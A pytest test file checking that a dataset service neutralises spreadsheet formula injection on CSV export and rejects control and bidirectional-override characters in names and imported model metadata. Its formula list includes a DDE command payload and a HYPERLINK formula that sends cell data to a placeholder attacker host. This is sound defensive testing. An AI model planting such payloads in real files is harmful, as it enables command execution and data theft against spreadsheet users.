"""Names that would act: formulas in a spreadsheet, control characters in a terminal, text that runs backwards."""

import csv
import io
import json
import re
import urllib.parse

import pytest
from conftest import QUICK, Server
from test_bad_requests import check_problem

CSV, JSON = {"Content-Type": "text/csv"}, {"Content-Type": "application/json"}

FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1)", "+SUM(A1)", "-'f'#A1", "-é(", "+c|' '!A0", "=", "\t=1", "\r=1"]
HARMLESS = ["a=b", "a-b", "x@y", "-5", "0.5", "-1e-7", "+1+2", "-1-2", "+", "-10.000)", "+1+A2", "-1 year", "-a", "+44 (0)20", "'-5", "'quoted'", "it's", "'", "''", "a'=b"]
APOSTROPHES = ["'=1+1", "''=1+1", "'-a()", "'@x"]  # as they are: not our own escape


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    server = Server(str(tmp_path_factory.mktemp("names")), "--workers", "1")
    yield server
    assert server.stop() == 0


def upload(server, labels):
    points = [[i, i * i] for i in range(len(labels))]
    answer = server.request("POST", "/v1/datasets", raw=json.dumps({"points": points, "labels": labels}).encode(), headers=JSON)
    assert answer.status == 201, answer.body
    return answer.json


def rows_of(text):
    return list(csv.reader(io.StringIO(text.decode(), newline="")))


def test_labels_that_a_spreadsheet_would_compute_are_guarded_and_come_back(store):
    labels = FORMULAS + HARMLESS + APOSTROPHES
    made = upload(store, labels)
    text = store.get(f"/v1/datasets/{made['id']}/points.csv?n={len(labels)}").body
    rows = {int(row[0]): row[2] for row in rows_of(text)[1:]}
    assert len(rows) == len(labels)
    for label, cell in ((labels[i], cell) for i, cell in rows.items()):
        assert cell == ("'" + label if label in FORMULAS + APOSTROPHES else label)
        assert not (cell[:1] in ("=", "@", "\t", "\r") or (cell[:1] in ("+", "-") and re.search("[^\\W\\d_].*[(|!#]", cell)))
    again = store.request("POST", "/v1/datasets", raw=text, headers=CSV)
    assert again.status == 201 and again.json["classes"] == made["classes"]
    answer = store.get(f"/v1/datasets/{again.json['id']}/points?n={len(labels)}").json
    assert {int(x): label for (x, _), label in zip(answer["points"], answer["labels"], strict=True)} == dict(enumerate(labels))


def test_columns_that_a_spreadsheet_would_compute(store):
    names = ["=1+1", "'@a", "-b()", "+c d", "plain", "it's"]
    raw = ",".join(f'"{name}"' for name in names) + "\r\n1,2,3,4,5,6\r\n7,8,9,10,11,12\r\n"
    made = store.request("POST", "/v1/datasets", raw=raw.encode(), headers=CSV)
    # an apostrophe before such a character is one of ours, or as good as one
    assert made.status == 201 and [column["name"] for column in made.json["columns"]] == ["=1+1", "@a", "-b()", "+c d", "plain", "it's"]
    text = store.get(f"/v1/datasets/{made.json['id']}/points.csv?n=2").body
    assert rows_of(text)[0] == ["'=1+1", "'@a", "'-b()", "+c d", "plain", "it's"]
    again = store.request("POST", "/v1/datasets", raw=text, headers=CSV)
    assert [column["name"] for column in again.json["columns"]] == [column["name"] for column in made.json["columns"]]
    named = store.request("POST", "/v1/datasets?label=" + urllib.parse.quote("=1+1"), raw=text, headers=CSV)
    assert named.status == 201 and named.json["classes"] == ["1", "7"]


def test_samples_have_the_guard_too(store):
    made = upload(store, ["=1+1", "b"] * 20)
    job = store.submit({**QUICK, "dataset": {"id": made["id"]}, "training": {"epochs": 1, "batch_size": 10}})
    assert store.wait(job)["status"] == "succeeded"
    rows = rows_of(store.get(f"/v1/models/{job}/samples.csv?n=10").body)
    assert {row[2] for row in rows[1:]} == {"'=1+1", "b"}


ODD = ["a\x1b[31mb", "a\x00b".replace("\x00", "\x01"), "a\x7f", "a\x85b", "a\u202eb", "\u202ab", "a\u2066", "\u2069", "\ufeffa", "a\ufffe", "\uffff"]
GOOD = ["a\tb", "\u200fשלום", "a\u2028b", "\u202fa", "\u2065", "\u00a0", "é\U0001f600"]


@pytest.mark.parametrize("name", ODD)
def test_odd_characters_in_names(store, name):
    quoted = urllib.parse.quote(name)
    for path in (f"/v1/datasets?name={quoted}", f"/v1/models?name={quoted}"):
        raw, headers = (b"1,2\n3,4\n", CSV) if "datasets" in path else (b"x", {"Content-Type": "application/octet-stream"})
        problem = check_problem(store.request("POST", path, raw=raw, headers=headers), 422, "invalid_fields")
        assert problem["errors"][0]["pointer"] == "/name" and problem["errors"][0]["detail"].startswith("must not have")
    assert check_problem(store.post("/v1/jobs", {"name": name}), 422, "invalid_fields")["errors"][0]["pointer"] == "/name"
    for body, pointer in [
        ({"name": name, "points": [[1]]}, "/name"),
        ({"points": [[1], [2]], "labels": ["a", name]}, "/columns/label"),
    ]:
        answer = store.request("POST", "/v1/datasets", raw=json.dumps(body).encode(), headers=JSON)
        assert check_problem(answer, 422, "invalid_data")["errors"][0]["pointer"] == pointer
    for text in (f'"{name}",y\n1,2\n', f"x,label\n1,a\n2,{name}\n"):
        answer = store.request("POST", "/v1/datasets", raw=text.encode(), headers=CSV)
        assert "must not have" in check_problem(answer, 422, "invalid_data")["errors"][0]["detail"]


def test_other_characters_in_names_are_kept(store):
    for name in GOOD:
        made = store.request("POST", "/v1/datasets?name=" + urllib.parse.quote(name), raw=b"1,2\n3,4\n", headers=CSV)
        assert made.status == 201 and made.json["name"] == name
        assert store.post("/v1/jobs?validate_only=true", {"name": name}).json["spec"]["name"] == name
    assert upload(store, GOOD)["classes"] == sorted(GOOD, key=str.encode)


@pytest.fixture(scope="module")
def exported(store):
    """The file of a model called "a name" with the classes "left" and "right"."""
    made = upload(store, ["left", "right"] * 20)
    job = store.submit({**QUICK, "name": "a name", "dataset": {"id": made["id"]}, "training": {"epochs": 1, "batch_size": 10}})
    assert store.wait(job)["status"] == "succeeded"
    return store.get(f"/v1/models/{job}/weights.safetensors").body


def bring_changed(store, file, key, old, new, **more):
    """Imports the file with another text in its metadata, and more of it."""
    length = int.from_bytes(file[:8], "little")
    header = json.loads(file[8 : 8 + length])
    assert old in header["__metadata__"][key]
    header["__metadata__"][key] = header["__metadata__"][key].replace(old, new)
    header["__metadata__"].update(more)
    head = json.dumps(header).encode()
    head += b" " * (-len(head) % 8)
    raw = len(head).to_bytes(8, "little") + head + file[8 + length :]
    return store.request("POST", "/v1/models", raw=raw, headers={"Content-Type": "application/octet-stream"})


@pytest.mark.parametrize("odd", ["\u202e", "\x1b"])
def test_odd_characters_in_a_model_that_comes_in(store, exported, odd):
    for key, old, new in [("name", "a name", "a name" + odd), ("spec", "left", "left" + json.dumps(odd)[1:-1])]:
        errors = check_problem(bring_changed(store, exported, key, old, new), 422, "invalid_safetensors")["errors"]
        assert [error["pointer"] for error in errors] == [f"/__metadata__/{key}"] and "must not have" in errors[0]["detail"]


@pytest.mark.parametrize("new", ['"right"', '""', "1", "null", '"' + "x" * 65 + '"', '["left"]'])
def test_classes_of_a_model_that_comes_in(store, exported, new):
    errors = check_problem(bring_changed(store, exported, "spec", '"left"', new), 422, "invalid_safetensors")["errors"]
    assert errors[0]["pointer"] == "/__metadata__/spec" and "/dataset/classes" in errors[0]["detail"]


@pytest.mark.parametrize("new", ['"right"', "1", '""'])
def test_classes_of_a_list_of_one(store, exported, new):
    """It is the same as its one member."""
    length = int.from_bytes(exported[:8], "little")
    spec = json.loads(json.loads(exported[8 : 8 + length])["__metadata__"]["spec"])
    text = json.dumps(spec["dataset"], separators=(",", ":"), ensure_ascii=False)
    listed = bring_changed(store, exported, "spec", text, f"[{text}]")
    assert listed.status == 201 and listed.json["classes"] == ["left", "right"]
    wrong = bring_changed(store, exported, "spec", text, "[" + text.replace('"left"', new) + "]")
    errors = check_problem(wrong, 422, "invalid_safetensors")["errors"]
    assert errors[0]["pointer"] == "/__metadata__/spec" and "/dataset/classes" in errors[0]["detail"]
